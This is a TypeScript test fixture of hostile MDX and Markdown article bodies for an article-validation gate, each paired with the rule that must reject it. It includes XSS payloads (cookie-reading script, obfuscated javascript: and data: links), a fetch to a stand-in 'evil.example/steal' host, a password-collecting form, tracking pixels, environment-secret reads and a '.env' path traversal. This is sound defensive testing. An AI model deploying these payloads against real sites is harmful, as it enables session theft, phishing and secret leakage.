/**
 * Proposals written to smuggle code, markup or tracking into an article, each with the rule that
 * must refuse it. Shared by the unit test of the gate and the service test that posts them.
 */
export interface HostileSample {
  name: string;
  body: string;
  /** The rule that must be among the refusals. */
  rule: string;
  /** Text the refusal's message or hint must contain. */
  says: RegExp;
}

export const hostileSamples: HostileSample[] = [
  {
    name: 'import of a module',
    body: 'import fs from "node:fs"\n\nText.',
    rule: 'no-import-export',
    says: /import and export/,
  },
  {
    name: 'export of a value',
    body: 'export const secret = process.env.SECRET\n\nText.',
    rule: 'no-import-export',
    says: /without importing/,
  },
  {
    name: 'export default component',
    body: 'export default function Layout() { return null }\n\nText.',
    rule: 'no-import-export',
    says: /import and export/,
  },
  {
    name: 'expression reading the environment',
    body: 'Your key is {process.env.SECRET}.',
    rule: 'no-expression',
    says: /expression/,
  },
  {
    name: 'flow expression calling code',
    body: '{fetch("https://evil.example/steal")}',
    rule: 'no-expression',
    says: /literal brace/,
  },
  {
    name: 'expression with a template literal',
    body: 'Hi {`${globalThis.name}`}',
    rule: 'no-expression',
    says: /expression/,
  },
  {
    name: 'placeholder written in braces',
    body: 'Pay {{amount}} by Friday.',
    rule: 'no-expression',
    says: /square brackets/,
  },
  {
    name: 'immediately invoked function',
    body: '{(() => { while (true) {} })()}',
    rule: 'no-expression',
    says: /expression/,
  },
  {
    name: 'event handler on a component',
    body: '<Callout type="note" onClick="alert(1)">\n\nHi\n\n</Callout>',
    rule: 'no-event-handler',
    says: /event handler onClick/,
  },
  {
    name: 'event handler on an element',
    body: '<div onmouseover="alert(1)">x</div>',
    rule: 'no-event-handler',
    says: /event handler/,
  },
  {
    name: 'expression attribute',
    body: '<Callout type={"warn" + "ing"}>\n\nHi\n\n</Callout>',
    rule: 'no-expression-attribute',
    says: /expression/,
  },
  {
    name: 'spread attributes',
    body: '<Callout {...props}>\n\nHi\n\n</Callout>',
    rule: 'no-spread-attribute',
    says: /spread/,
  },
  {
    name: 'script element',
    body: '<script>alert(document.cookie)</script>',
    rule: 'unknown-element',
    says: /scripts never run/,
  },
  {
    name: 'style element',
    body: '<style>{`body { display: none }`}</style>',
    rule: 'unknown-element',
    says: /styles/,
  },
  {
    name: 'iframe element',
    body: '<iframe src="https://evil.example" />',
    rule: 'unknown-element',
    says: /embedded/,
  },
  {
    name: 'object element',
    body: '<object data="https://evil.example/x.swf" />',
    rule: 'unknown-element',
    says: /embedded/,
  },
  {
    name: 'raw anchor element',
    body: '<a href="https://evil.example">click</a>',
    rule: 'unknown-element',
    says: /Markdown/,
  },
  {
    name: 'raw image element (tracking pixel)',
    body: '<img src="https://evil.example/pixel.gif" />',
    rule: 'unknown-element',
    says: /Figure/,
  },
  {
    name: 'form element',
    body: '<form action="https://evil.example"><input name="password" /></form>',
    rule: 'unknown-element',
    says: /forms/,
  },
  {
    name: 'unknown component',
    body: '<AdminPanel />',
    rule: 'unknown-element',
    says: /not an element articles may use/,
  },
  {
    name: 'member-expression component',
    body: '<Astro.self />',
    rule: 'unknown-element',
    says: /not an element/,
  },
  { name: 'fragment', body: '<>Hidden</>', rule: 'no-fragment', says: /fragments/ },
  {
    name: 'javascript link',
    body: '[Click me](javascript:alert(1))',
    rule: 'link-scheme',
    says: /javascript: are not allowed/,
  },
  {
    name: 'javascript link with a tab in the scheme',
    body: '[Click me](<java\tscript:alert(1)>)',
    rule: 'link-scheme',
    says: /not allowed/,
  },
  {
    name: 'javascript link with an entity',
    body: '[Click me](java&#115;cript:alert(1))',
    rule: 'link-scheme',
    says: /javascript: are not allowed/,
  },
  {
    name: 'data URL link',
    body: '[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    rule: 'link-scheme',
    says: /data: are not allowed/,
  },
  {
    name: 'vbscript link',
    body: '[Open](vbscript:msgbox)',
    rule: 'link-scheme',
    says: /not allowed/,
  },
  {
    name: 'plain http link',
    body: '[Our blog](http://blog.example.com/)',
    rule: 'link-scheme',
    says: /http: are not allowed/,
  },
  {
    name: 'protocol-relative link',
    body: '[Mirror](//evil.example/)',
    rule: 'link-scheme',
    says: /leaves the site/,
  },
  {
    name: 'backslash link',
    body: '[Mirror](/\\evil.example/)',
    rule: 'link-scheme',
    says: /leaves the site|not allowed/,
  },
  {
    name: 'javascript in a link definition',
    body: 'See [the page][p].\n\n[p]: javascript:alert(1)',
    rule: 'link-scheme',
    says: /not allowed/,
  },
  {
    name: 'markdown image from another site',
    body: '![x](https://evil.example/pixel.gif)',
    rule: 'no-markdown-image',
    says: /Figure/,
  },
  {
    name: 'figure pointing outside content/images',
    body: '<Figure src="https://evil.example/x.png" alt="A picture of a lot" />',
    rule: 'figure-src',
    says: /content\/images/,
  },
  {
    name: 'figure with a path traversal',
    body: '<Figure src="../../.env" alt="A picture of a lot" />',
    rule: 'figure-src',
    says: /file name/,
  },
  {
    name: 'component with an unknown attribute',
    body: '<Callout type="note" style="display:none">\n\nHi\n\n</Callout>',
    rule: 'unknown-attribute',
    says: /Callout> takes type/,
  },
  {
    name: 'details without a summary',
    body: '<Details>\n\nHidden\n\n</Details>',
    rule: 'missing-attribute',
    says: /summary/,
  },
  {
    name: 'HTML comment',
    body: 'Text <!-- hidden note --> more',
    rule: 'syntax',
    says: /comment|MDX/,
  },
  {
    name: 'unclosed component',
    body: '<Callout type="note">\n\nNever closed',
    rule: 'syntax',
    says: /MDX/,
  },
];
